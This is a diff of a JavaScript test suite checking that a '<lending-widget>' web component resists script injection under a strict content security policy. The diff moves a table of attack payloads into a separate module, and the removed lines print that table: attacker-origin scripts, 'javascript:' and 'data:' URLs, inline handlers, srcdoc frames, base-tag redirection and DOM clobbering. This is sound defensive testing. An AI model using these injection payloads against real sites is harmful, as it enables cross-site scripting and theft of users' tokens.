@@ -4,13 +4,11 @@ import { after, before, describe, it } from 'node:test';
 import { ensureBuilt } from '../support/dist.mjs';
 import { cli } from '../support/doctor.mjs';
 import { launch } from './browser.mjs';
+import { ATTACK, ELEMENT, GADGETS, inside } from './gadgets.mjs';
 import { handOff, script, send, startPartner, startVendor } from './vendor/servers.mjs';
 
 const NONCE = 'cmFuZG9tIGVub3VnaA';
-const ELEMENT = '<lending-widget></lending-widget>';
 const EMBED_CALL = `VendorFunding.init({ token: '{access_token}', container: document.getElementById('{container_id}') });`;
-/** What an attacker's script does, wherever it gets to run. */
-const ATTACK = 'globalThis.attacked = true;';
 
 const nonceOnly = (vendor) =>
   [
@@ -173,89 +171,17 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
     );
   });
 
-  /**
-   * Markup that somebody smuggles into a page whose backend configures the vendor's script. It gets the page's own
-   * settings, as an injected element would. Where a page without a policy would run it by itself, it is not `anywhere`.
-   */
-  const inside = (markup) => `<lending-widget><template>${markup}</template></lending-widget>`;
-  const attackUrl = () => `${attacker.origin}/attack.js`;
-  const GADGETS = {
-    'an external script of an origin that is not listed': {
-      markup: () => inside(`<script src="${attackUrl()}"></script>`),
-      told: 'script-not-allowed',
-      anywhere: true,
-    },
-    'a module of an origin that is not listed': {
-      markup: () => inside(`<script type="module" src="${attackUrl()}"></script>`),
-      told: 'script-not-allowed',
-      anywhere: true,
-    },
-    'an external script with a credential that looks like a listed origin': {
-      markup: () => inside(`<script src="${attackUrl().replace('http://', `${vendor.origin}@`)}"></script>`),
-      told: 'script-not-allowed',
-      anywhere: true,
-    },
-    'a data: script': { markup: () => inside(`<script src="data:,${ATTACK}"></script>`), told: 'script-not-allowed' },
-    'a script of SVG': {
-      markup: () => inside(`<svg><script href="${attackUrl()}" xlink:href="${attackUrl()}"></script></svg>`),
-      anywhere: true,
-    },
-    'an inline script without the nonce': { markup: () => inside(`<script>${ATTACK}</script>`) },
-    'an inline script with a guessed nonce': { markup: () => inside(`<script nonce="x">${ATTACK}</script>`) },
-    'an inline module': { markup: () => inside(`<script type="module">${ATTACK}</script>`) },
-    'an inline handler': { markup: () => inside(`<img src="data:," onerror="${ATTACK} '{access_token}'">`) },
-    'a frame with a document': {
-      markup: () => inside(`<iframe srcdoc="<script>parent.${ATTACK}</script>{access_token}"></iframe>`),
-    },
-    'a javascript: frame': { markup: () => inside(`<iframe src="javascript:parent.${ATTACK}"></iframe>`) },
-    'an endpoint of another origin': {
-      markup: () => `<lending-widget endpoint="${attacker.origin}/api"></lending-widget>`,
-      hasNoSettings: true,
-      told: 'config-invalid',
-      anywhere: true,
-    },
-    'an endpoint that is code': {
-      markup: () => `<lending-widget endpoint="javascript:${ATTACK}"></lending-widget>`,
-      hasNoSettings: true,
-      told: 'config-invalid',
-      anywhere: true,
-    },
-    'attributes that look like settings': {
-      markup: () => {
-        const url = attackUrl();
-        const json = JSON.stringify({ script_url: url, embed_code: `<script src=${url}></script>` });
-        return `<lending-widget widget='${json}' script-url="${url}" script_url="${url}" embed-code="<script src='${url}'></script>"
-          hand-off='{"iframe":{"src":"${url}","title":"x"}}' adapter="x" get-token="x" access-token="stolen"></lending-widget>`;
-      },
-      told: 'ready',
-      anywhere: true,
-    },
-    'markup in the element, and in its error slot': {
-      markup: () => `<lending-widget>{access_token}<p slot="error">{access_token}</p></lending-widget>`,
-      told: 'ready',
-      anywhere: true,
-    },
-    'a base, and an address of the settings that is relative': {
-      markup: () => `<base href="${attacker.origin}/">${ELEMENT}`,
-      widget: { script_url: '/attack.js', hand_off: handOff() },
-      told: 'script-failed',
-      anywhere: true,
-    },
-    'a name that the library may read': {
-      markup:
-        () => `<a id="trustedTypes"></a><a id="lendingElements"></a><form id="VendorFunding"><input name="init"></form>
-        <img name="baseURI">${ELEMENT}`,
-      told: 'ready',
-      anywhere: true,
-    },
-  };
-
+  const addresses = () => ({
+    vendor: vendor.origin,
+    attacker: attacker.origin,
+    attack: `${attacker.origin}/attack.js`,
+  });
   for (const [name, gadget] of Object.entries(GADGETS)) {
     for (const under of [STRICT, NO_TRUSTED_TYPES, ...(gadget.anywhere ? [NONE] : [])]) {
       it(`runs nothing of ${name}, under ${under}`, async () => {
         const widgets = gadget.hasNoSettings ? [null] : [{ widget: gadget.widget ?? settings(), isFromBackend: true }];
         const before = attacker.asked('/');
-        const { attacked, told, texts } = await open(gadget.markup(), widgets, under);
+        const { attacked, told, texts } = await open(gadget.markup(addresses()), widgets, under);
         assert.equal(attacked, false);
         assert.equal(attacker.asked('/'), before);
         assert.equal(told.length, 1);
@@ -268,7 +194,7 @@ describe('<lending-widget> under a strict policy', { timeout: 120_000 }, () => {
   it('notices an attack that gets through', async () => {
     const widget = { ...settings(), origins: [attacker.origin] };
     const before = attacker.asked('/attack.js');
-    const { attacked } = await open(inside(`<script src="${attackUrl()}"></script>`), [
+    const { attacked } = await open(inside(`<script src="${addresses().attack}"></script>`), [
       { widget, isFromBackend: true },
     ]);
     assert.equal(attacked, true);
